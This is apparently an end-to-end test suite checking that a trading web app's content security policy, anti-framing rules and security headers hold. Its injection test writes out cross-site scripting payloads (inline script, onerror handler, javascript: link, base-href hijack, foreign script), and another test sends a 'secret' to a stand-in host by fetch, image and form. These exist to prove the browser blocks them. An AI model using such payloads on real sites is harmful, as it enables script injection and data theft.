import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { uploadFile } from '@/data/collections/files';
import { submitVerification } from '@/data/collections/verifications';
import { createOp } from '@/domain/revision-fields';
import { createSpecimen } from '../../../tools/dev/seed/specimen';
import { getPort, loopback } from '../../../tools/ports';
import { expect, getConsoleErrors, getUncaughtErrors, test } from '../../support/e2e/fixtures';
import {
  createAdministrator,
  createClient,
  createTrader,
  type Person,
} from '../../support/e2e/people';
import { signInAs } from '../../support/e2e/sign-in';

let client: Person;
let administrator: Person;
test.beforeAll(async ({ freshDesk: _ }) => {
  administrator = await createAdministrator('Signe');
  client = await createTrader('Euphemia', administrator);
  // Not the client's own, who is about to upload a photo: between two uploads lie ten seconds.
  const identified = await createClient('Quentin');
  const document = await uploadFile(identified.caller, 'identity', createSpecimen('passport'));
  await submitVerification(identified.caller, { document, kind: 'passport', op: createOp() });
});

/**
 * Watches what the browser refuses from the next page on.
 * @returns what it has told the page, and what it has logged
 */
async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const refusals: string[] = [];
    Object.assign(globalThis, { refusals });
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sample }) => {
        refusals.push([effectiveDirective, blockedURI, sample].join(' ').trim());
      },
    );
  });
  return async () => [
    ...(await page.evaluate(() => (globalThis as unknown as { refusals: string[] }).refusals)), // defined by the script above
    ...getConsoleErrors(page).filter((line) =>
      /content security policy|permissions policy|x-frame-options/i.test(line),
    ),
  ];
}

interface Screen {
  path: string;
  /** What is there once the screen is complete. */
  ready: string;
  act?: (page: Page) => Promise<void>;
}

const press = (page: Page, name: string | RegExp) =>
  page.getByRole('button', { name }).first().click();
const photo =
  '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><rect width="900" height="900" fill="#0f5a40"/></svg>';

const clientScreens: Screen[] = [
  {
    path: '/user/dashboard',
    ready: 'Lowest',
    act: (page) => page.locator('canvas').first().waitFor(),
  },
  {
    path: '/user/deposit',
    ready: 'I have sent',
    act: (page) => page.getByRole('img', { name: /QR/ }).waitFor(),
  },
  { path: '/user/withdrawal', ready: 'We activate your account' },
  { path: '/user/statement', ready: 'Adds up ·' },
  { path: '/user/assets', ready: 'Bitcoin Cash' },
  { path: '/user/subscriptions', ready: 'Choose' },
  { path: '/user/user-verify', ready: 'document' },
  { path: '/user/buy-bitcoin', ready: 'Deposit' },
  {
    path: '/user/settings',
    ready: 'Phone number',
    act: async (page) => {
      await page
        .locator('input[type=file]')
        .first()
        .setInputFiles({ name: 'me.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(photo) });
      const fresh = page.getByRole('img', { name: 'Your new photo, not saved yet' });
      await expect
        .poll(() =>
          fresh.evaluate((one) => one instanceof HTMLImageElement && one.naturalWidth > 0),
        )
        .toBe(true);
    },
  },
];

const deskScreens: Screen[] = [
  { path: '/admin/dashboard', ready: 'Daily peak' },
  { path: '/admin/users?q=euphemia', ready: 'Euphemia Tester' },
  { path: '/admin/deposit?tab=completed&q=euphemia', ready: 'Euphemia Tester' },
  { path: '/admin/withdrawal', ready: 'Withdrawals' },
  { path: '/admin/proposals', ready: 'Second approval' },
  { path: '/admin/trades', ready: 'Trade' },
  { path: '/admin/subscriptions', ready: 'Subscriptions' },
  { path: '/admin/notifications', ready: 'Messages' },
  { path: '/admin/journal', ready: 'Journal' },
  { path: '/admin/account', ready: 'Account' },
  { path: '/admin/settings', ready: 'Personal information' },
  { path: '/admin/settings/desk', ready: 'Payment' },
  {
    path: '/admin/verification?q=quentin',
    ready: 'Quentin Tester',
    act: async (page) => {
      await press(page, /^Review: .+ of Quentin/);
      await press(page, 'Open document');
      await page.getByRole('dialog').locator('canvas, img').first().waitFor();
    },
  },
];

const publicScreens: Screen[] = [
  { path: '/', ready: 'Every cent' },
  {
    path: '/education/learn-forex/pips-and-lots',
    ready: 'Check yourself',
    act: (page) => page.mouse.move(200, 200),
  },
  { path: '/market/cryptocurrency', ready: 'Prices now' },
  { path: '/company/contact', ready: 'Send message' },
  { path: '/verify', ready: 'Book and receipts', act: (page) => page.mouse.move(200, 200) },
  { path: '/signin', ready: 'Forgot your password?' },
  { path: '/signup', ready: 'Open account' },
  { path: '/no-such-page', ready: 'Glassbook' },
];

async function expectNoRefusals(
  page: Page,
  getRefusals: () => Promise<string[]>,
  screens: Screen[],
): Promise<void> {
  for (const { path, ready, act } of screens) {
    await page.goto(path);
    await page.getByText(ready, { exact: false }).filter({ visible: true }).first().waitFor();
    await act?.(page);
    expect([path, ...(await getRefusals())]).toEqual([path]);
  }
}

test.describe('threat 23: the policy of the pages', { tag: '@full' }, () => {
  test('allows all that the public pages do', async ({ page }) => {
    const getRefusals = await watchRefusals(page);
    await expectNoRefusals(page, getRefusals, publicScreens);
  });

  test('allows all that a client does: charts, QR codes, a photo', async ({ page }) => {
    const getRefusals = await watchRefusals(page);
    await signInAs(page, client, '/user/dashboard');
    await expectNoRefusals(page, getRefusals, clientScreens);
  });

  test('allows all that the desk does: queues, a PDF that is drawn in its worker', async ({
    page,
  }) => {
    const getRefusals = await watchRefusals(page);
    await signInAs(page, administrator, '/admin/dashboard');
    await expectNoRefusals(page, getRefusals, deskScreens);
  });

  for (const path of ['/', '/signin', '/user/settings']) {
    test(`lets no injected script run on ${path}`, async ({ page }) => {
      const getRefusals = await watchRefusals(page);
      await signInAs(page, client, path);
      await page.getByRole('heading').first().waitFor();
      await page.evaluate(() => {
        const run = 'globalThis.harm = true';
        const script = document.createElement('script');
        script.textContent = run;
        const foreign = document.createElement('script');
        foreign.src = 'https://scripts.example/harm.js';
        const box = document.createElement('div');
        box.innerHTML = `<img src="data:," onerror="${run}"><a href="javascript:${run}">press</a><base href="https://elsewhere.example/">`;
        document.body.append(script, foreign, box);
        box.querySelector('a')?.click();
        // Later, because a tool of the browser's may evaluate what it likes.
        setTimeout(() => new Function(run)());
      });
      await expect
        .poll(getRefusals)
        .toContainEqual(expect.stringContaining('https://scripts.example/harm.js'));
      // Each is reported by itself, in no certain order.
      for (const kind of [
        'script-src-attr inline',
        'script-src-elem inline',
        'script-src eval',
        'base-uri',
      ])
        await expect.poll(async () => (await getRefusals()).join()).toContain(kind);
      // The refused `eval` is an error that nothing in the page handles.
      await expect.poll(() => getUncaughtErrors(page).splice(0).length).toBe(1);
      expect(
        await page.evaluate(() => [
          'harm' in globalThis,
          document.baseURI.startsWith(location.origin),
        ]),
      ).toEqual([false, true]);
    });
  }

  test('sends nothing elsewhere, neither by a request nor by a form', async ({ page, site }) => {
    const getRefusals = await watchRefusals(page);
    await page.goto('/signin');
    await page.getByText('Forgot your password?').waitFor();
    await page.evaluate(async () => {
      await fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).catch(
        () => undefined,
      );
      new Image().src = 'https://elsewhere.example/?secret';
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
    });
    for (const directive of ['connect-src', 'img-src', 'form-action'])
      await expect
        .poll(async () => (await getRefusals()).join())
        .toContain(`${directive} https://elsewhere.example/`);
    expect(page.url()).toBe(`${site}/signin`);
  });
});

test.describe('threat 23: the app in a frame of somebody else’s page', { tag: '@full' }, () => {
  let other: Server;
  test.beforeAll(async ({ site }) => {
    const page = ['/', '/signin', '/user/dashboard', '/favicon.svg', '/chat']
      .map((path) => `<iframe src="${site}${path}"></iframe>`)
      .join('');
    other = createServer((_, response) =>
      response.setHeader('content-type', 'text/html').end(page),
    );
    await new Promise<void>((resolve) => other.listen(0, loopback, resolve));
  });
  test.afterAll(() => other.close());

  test('is not shown', async ({ page }) => {
    await page.goto(`http://${loopback}:${getPort(other)}/`);
    await expect
      .poll(() => getConsoleErrors(page).filter((line) => line.includes('frame-ancestors')).length)
      .toBe(5);
    expect(
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url()),
    ).toEqual(Array(5).fill('chrome-error://chromewebdata/'));
  });
});

test('every response has the security headers, also of a missing file', { tag: '@full' }, async ({
  site,
}) => {
  for (const path of ['/', '/user/dashboard', '/favicon.svg', '/assets/none.js']) {
    const { headers } = await fetch(`${site}${path}`);
    const found = [
      'strict-transport-security',
      'x-content-type-options',
      'referrer-policy',
      'permissions-policy',
    ].filter((name) => headers.has(name));
    expect([
      path,
      found.length,
      headers.get('cross-origin-opener-policy'),
      headers.get('x-frame-options'),
    ]).toEqual([path, 4, 'same-origin', 'DENY']);
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe/);
  }
});
